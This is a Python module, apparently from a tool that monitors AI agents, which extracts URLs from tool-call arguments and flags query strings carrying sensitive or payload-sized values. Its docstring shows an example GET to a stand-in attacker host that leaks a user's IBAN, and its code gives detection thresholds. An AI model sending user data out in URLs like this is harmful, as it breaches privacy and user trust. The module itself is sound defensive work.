"""Destinations named in a tool call's arguments: URLs with or without a scheme, wherever they sit (a
`url` argument, a request body, a header), and the data a URL's query string carries.

A GET can exfiltrate as well as a POST: `https://attacker.example/c?d=<the user's IBAN>` sends the IBAN
in the query string. So a fetch whose query string carries a value that is sensitive, or long enough to
be a payload rather than a parameter, counts as a send to that host.
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from dataclasses import dataclass
from urllib.parse import parse_qsl, urlsplit

from workbench.sensitive import find_sensitive

_URL = re.compile(r"https?://[^\s\"'<>\\)]+", re.IGNORECASE)
# Keys whose value is a destination even without a scheme ("www.example.com/x", as agents often write).
_URL_KEYS = frozenset({"url", "uri", "link", "href", "endpoint", "host", "domain", "webhook", "target_url"})
_BARE_HOST = re.compile(r"^(?:[A-Za-z0-9-]+\.)+[A-Za-z]{2,}(?::\d+)?(?:[/?#][^\s\"'<>]*)?$")
PAYLOAD_MIN_CHARS = 24  # a query value this long is data, not a page number or a search term


@dataclass(frozen=True, slots=True)
class Url:
    """A URL found in the arguments text: its host, and its range in that text."""

    text: str
    host: str
    start: int
    end: int


def host_of(url: str) -> str | None:
    """The host of `url`, lower-case, with or without a scheme; None when there is none."""
    try:
        parts = urlsplit(url if "//" in url else "//" + url)
        host = parts.hostname
    except ValueError:
        return None
    return host.lower().rstrip(".") if host else None


def find_urls(raw: str, keyed: Sequence[tuple[str, str, int]] = ()) -> list[Url]:
    """URLs with a scheme anywhere in `raw`, plus bare hosts in values under a URL-like key.

    `keyed` is (key, text, raw offset) for the argument values; an offset of -1 means the value could
    not be located exactly and the URL is then left out (evidence must quote the raw text)."""
    out: list[Url] = []
    seen: set[int] = set()
    for m in _URL.finditer(raw):
        host = host_of(m.group(0))
        if host:
            out.append(Url(m.group(0), host, m.start(), m.end()))
            seen.add(m.start())
    for key, text, start in keyed:
        value = text.strip()
        if key.lower() in _URL_KEYS and start >= 0 and _BARE_HOST.match(value) and start not in seen:
            host = host_of(value)
            if host:
                lead = len(text) - len(text.lstrip())
                out.append(Url(value, host, start + lead, start + lead + len(value)))
    return out


def query_payload(url: str) -> str | None:
    """Why the URL's query string carries data out (a sensitive value, or a long one), or None."""
    try:
        pairs = parse_qsl(urlsplit(url if "//" in url else "//" + url).query, keep_blank_values=False)
    except ValueError:
        return None
    for name, value in pairs:
        if find_sensitive(value):
            return f"the query parameter {name!r} carries a sensitive value"
        if len(value) >= PAYLOAD_MIN_CHARS and " " not in value.strip():
            return f"the query parameter {name!r} carries {len(value)} characters of data"
    return None
